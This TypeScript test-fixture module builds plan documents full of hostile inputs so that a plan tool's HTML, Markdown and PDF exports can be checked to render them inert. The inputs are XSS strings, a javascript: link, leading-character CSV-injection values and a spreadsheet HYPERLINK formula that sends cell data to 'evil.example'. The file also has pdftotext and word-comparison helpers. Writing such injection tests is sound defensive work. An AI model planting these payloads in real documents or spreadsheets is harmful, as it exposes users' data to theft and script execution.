import { execFile } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { promisify } from "node:util";
import { addAction, addSection, bodyDoc, bulletList, heading, orderedList, paragraph, text, type PmNode } from "@jigsaw/shared/plan/index";
import type * as Y from "yjs";

const run = promisify(execFile);

/** Hostile strings every format must render inert. */
export const XSS_IMG = "<img src=x onerror=alert(1)>";
export const XSS_SCRIPT = "<script>alert('x')</script>";
export const FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click")';

function cell(type: "tableCell" | "tableHeader", value: string): PmNode {
  return { type, content: [paragraph(value)] };
}

/** A body with every supported kind of formatting plus the hostile payloads. */
export function richBody(): ReturnType<typeof bodyDoc> {
  return bodyDoc([
    heading(2, "Why this matters"),
    paragraph([text("Healthy life expectancy is "), text("ten years lower", [{ type: "bold" }]), text(" in "), text("Northgate", [{ type: "italic" }]), text(".")]),
    paragraph([text("See the "), text("JSNA summary", [{ type: "link", attrs: { href: "https://example.org/jsna" } }]), text(" and "), text("this", [{ type: "link", attrs: { href: "javascript:alert(1)" } }]), text(".")]),
    bulletList(["Start well", "Live well", "Age well"]),
    orderedList(["Agree the plan", "Deliver the actions"]),
    paragraph(`Residents wrote: ${XSS_IMG} and ${XSS_SCRIPT}`),
    {
      type: "table",
      content: [
        { type: "tableRow", content: [cell("tableHeader", "Measure"), cell("tableHeader", "Value")] },
        { type: "tableRow", content: [cell("tableCell", "Gap in years"), cell("tableCell", FORMULA)] },
        { type: "tableRow", content: [cell("tableCell", "+44 helpline"), cell("tableCell", "@risk households")] },
      ],
    },
  ]);
}

/** Add the rich section and hostile actions to a plan doc. */
export function addRichContent(doc: Y.Doc): void {
  addSection(doc, { title: "Tackling inequality <b>now</b>", body: richBody(), outcomes: ["SO-04", "SO-01"] });
  addAction(doc, { title: FORMULA, leadOrganisation: "Riverside ICB", partnerOrganisations: ["Riverside CVS"], outcomes: ["SO-04"] });
  addAction(doc, { title: `Warm homes ${XSS_SCRIPT}`, leadOrganisation: "-Riverside Council", status: "on_track", dueDate: "2026-12-31" });
}

/** Text of a PDF (pdftotext -raw: content-stream order). */
export async function pdfToText(buffer: Uint8Array): Promise<string> {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "jigsaw-pdf-"));
  const file = path.join(dir, "x.pdf");
  try {
    fs.writeFileSync(file, buffer);
    const { stdout } = await run("pdftotext", ["-raw", "-enc", "UTF-8", file, "-"], { maxBuffer: 64 * 1024 * 1024 });
    return stdout;
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

/** True when pdftotext is installed. */
export async function hasPdfToText(): Promise<boolean> {
  try {
    await run("pdftotext", ["-v"]);
    return true;
  } catch {
    return false;
  }
}

/** Whitespace-free, for comparing text that may wrap differently. */
export function squash(s: string): string {
  return s.replace(/\s+/g, "");
}

/** Decode the HTML entities the renderers write. */
function decodeEntities(s: string): string {
  return s
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&amp;/g, "&");
}

/** Words of an HTML export's body, in order. */
export function htmlWords(html: string): string[] {
  const body = html.slice(html.indexOf("<body>"), html.indexOf("</body>"));
  return words(decodeEntities(body.replace(/<[^>]+>/g, " ")));
}

/** Words of a Markdown export, in order (markup, link targets and list numbers removed). */
export function markdownWords(md: string): string[] {
  const stripped = md
    .replace(/\]\(<[^>]*>\)/g, "]")
    .replace(/^\s*\d+\.\s/gm, " ")
    .replace(/\\(.)/g, "$1");
  return words(decodeEntities(stripped));
}

function words(s: string): string[] {
  return s.match(/[\p{L}\p{N}]+/gu) ?? [];
}
